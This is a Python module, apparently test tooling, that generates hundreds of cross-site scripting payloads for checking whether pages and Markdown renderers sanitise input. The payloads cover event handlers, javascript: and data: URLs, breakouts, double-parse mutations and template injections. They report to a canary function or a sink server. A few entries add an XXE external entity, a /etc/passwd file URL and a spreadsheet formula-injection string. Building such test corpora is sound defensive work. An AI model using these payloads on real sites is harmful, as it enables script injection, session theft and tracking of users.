"""Scripts in the shapes in which they get into pages, each of which tells a sink that it ran.

The families are those of the well-known cheat sheets: elements that load, handlers, addresses with a
scheme that runs, quotes and comments that break out, markup that changes its meaning when it is parsed
twice, and all of that inside Markdown.
"""

from itertools import product

RUN = "ran({n})"
"""What a payload calls. The page under test has the function, and notes who called it."""

_ELEMENTS = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT >",
    "<script src={sink}/{n}.js></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script\n>{js}</script\n>",
    "<script/x>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src={sink}/{n}.png>",
    "<img srcset='{sink}/{n}.png 1x'>",
    '<img src="x" onerror="{js}"',
    "<img/src=x/onerror={js}>",
    "<img src=x:x onerror\n=\n{js}>",
    "<image href=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<math><a xlink:href='javascript:{js}'>x</a></math>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src={sink}/{n}></iframe>",
    "<frameset onload={js}><frame src={sink}/{n}></frameset>",
    "<object data='javascript:{js}'></object>",
    "<object data={sink}/{n}></object>",
    "<embed src='{sink}/{n}'>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<video><source onerror={js}></video>",
    "<video src={sink}/{n} autoplay onloadstart={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<button autofocus onfocus={js}>x</button>",
    "<marquee onstart={js}>x</marquee>",
    "<xss id=x tabindex=1 onfocus={js} autofocus></xss>",
    "<x contenteditable onblur={js}>x</x>",
    "<style>@import '{sink}/{n}.css';</style>",
    "<style>*{{background:url({sink}/{n}.png)}}</style>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href={sink}/{n}.css>",
    "<link rel=prefetch href={sink}/{n}>",
    "<link rel=dns-prefetch href={sink}>",
    "<base href={sink}/>",
    "<meta http-equiv=refresh content='0;url={sink}/{n}'>",
    "<meta http-equiv=refresh content='0;javascript:{js}'>",
    "<form action={sink}/{n}><input type=submit autofocus></form>",
    "<form><button formaction='javascript:{js}'>x</button></form>",
    "<isindex type=image src={sink}/{n} onerror={js}>",
    "<table background={sink}/{n}.png><tr><td>x</table>",
    "<div style='background:url({sink}/{n}.png)'>x</div>",
    "<div style='animation:x' onanimationstart={js}>x</div>",
    "<a href='javascript:{js}' autofocus onfocus={js}>x</a>",
    "<a href={sink}/{n} ping={sink}/ping>x</a>",
    "<template><script>{js}</script></template>",
    "<slot onslotchange={js}></slot>",
    "<portal src={sink}/{n}></portal>",
    "<supportbot-chat shop='\"><img src=x onerror={js}>'></supportbot-chat>",
)

_HANDLERS = (
    "onabort onanimationend onanimationiteration onauxclick onbeforecopy onbeforeinput onbeforeprint "
    "onbeforetoggle onblur oncanplay onclick oncontextmenu oncopy oncut ondblclick ondrag ondragenter "
    "onended onfocusin onfocusout onformdata onfullscreenchange onhashchange oninput oninvalid "
    "onkeydown onloadstart onmessage onmousemove onmouseover onpaste onpointerenter onpointerover "
    "onpopstate onscroll onscrollend onsearch onsubmit ontimeupdate ontransitionend onunhandledrejection "
    "onunload onwheel"
).split()

_BREAKOUTS = (
    "{payload}",
    '">{payload}',
    "'>{payload}",
    "</textarea>{payload}",
    "</title></style></script>{payload}",
    "-->{payload}",
    "]]>{payload}",
)
_BREAKING = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<iframe srcdoc='<img src=x onerror=parent.{js}>'>",
)

_TWICE = (
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    '<svg></p><style><a title="</style><img src=x onerror={js}>">',
    "<a title='&quot;><img src=x onerror={js}>'>x</a>",
    "&lt;img src=x onerror={js}&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
    "\\u003cimg src=x onerror={js}\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3D{js}%3E",
    "＜img src=x onerror={js}＞",  # noqa: RUF001  # the wide brackets that a careless fold makes narrow
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "<%= {js} %>",
    "{{% debug %}}<img src=x onerror={js}>",
    '"-{js}-"',
    "';{js}//",
    "\\';{js}//",
    "</script><script>{js}</script>",
    "=cmd|' /C calc'!A0<img src=x onerror={js}>",
    "<!--><img src=x onerror={js}>-->",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '{sink}/{n}'>]><x>&y;</x>",
    "<?xml-stylesheet href='{sink}/{n}.css'?>",
    "\x1b]8;;{sink}/{n}\x07x<img src=x onerror={js}>",
)

_ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    " javascript:{js}",
    "javascript&colon;{js}",
    "javascript&#58;{js}",
    "&#106;avascript:{js}",
    "jav&#x0A;ascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>parent.{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDApPC9zY3JpcHQ+",
    "blob:{sink}/{n}",
    "file:///etc/passwd",
    "//{host}/{n}",
    "\\\\{host}\\{n}",
    "x' onclick='{js}' y='",
    'x" onmouseover="{js}" autofocus onfocus="{js}',
    "x><img/src=x/onerror={js}>",
)
_IN_MARKDOWN = (
    "[x]({url})",
    "[x](<{url}>)",
    '[x](ok "t" onclick={url})',
    "![x]({url})",
    "[![x]({url})]({url})",
    "<{url}>",
    "[x][1]\n\n[1]: {url}",
    "| a |\n|---|\n| [x]({url}) |",
)

_MARKDOWN = (
    "![pixel]({sink}/{n}.png)",
    "![pixel][p]\n\n[p]: {sink}/{n}.png",
    "[![x]({sink}/{n}.png)](https://shop.example/)",
    "**<img src=x onerror={js}>**",
    "`<img src=x onerror={js}>`<img src=x onerror={js}>",
    "```html\n<script>{js}</script>\n```\n<script>{js}</script>",
    "> <script>{js}</script>",
    "- <svg onload={js}>",
    "# <img src=x onerror={js}>",
    "[<img src=x onerror={js}>](https://shop.example/)",
    "[x](https://shop.example/'onmouseover='{js})",
    '[x](https://shop.example/ "><img src=x onerror={js}>")',
    "| <script>{js}</script> | b |\n|---|---|\n| <img src=x onerror={js}> | d |",
    "\\<img src=x onerror={js}\\>",
    '[a](b "c")<img src=x onerror={js}>[1]',
    "[^1]: <img src=x onerror={js}>",
    "~~<svg onload={js}>~~",
    "*<svg/onload={js}>",
    "[1](javascript:{js})",
    "[x]: <javascript:{js}> '<img src=x onerror={js}>'",
)


def payloads(sink: str) -> list[str]:
    """All of them. `sink` is the address of a server that nobody has a reason to ask."""
    in_markdown = [shape.replace("{url}", url) for shape, url in product(_IN_MARKDOWN, _ADDRESSES)]
    broken_out = [
        shape.replace("{payload}", payload) for shape, payload in product(_BREAKOUTS, _BREAKING)
    ]
    handled = [f"<b {name}={{js}} tabindex=1 autofocus>x</b>" for name in _HANDLERS]
    written = [*_ELEMENTS, *handled, *broken_out, *_TWICE, *in_markdown, *_MARKDOWN]
    host = sink.partition("//")[2]
    return [
        shape.format(n=n, js=RUN.format(n=n), sink=sink, host=host)
        for n, shape in enumerate(dict.fromkeys(written))
    ]
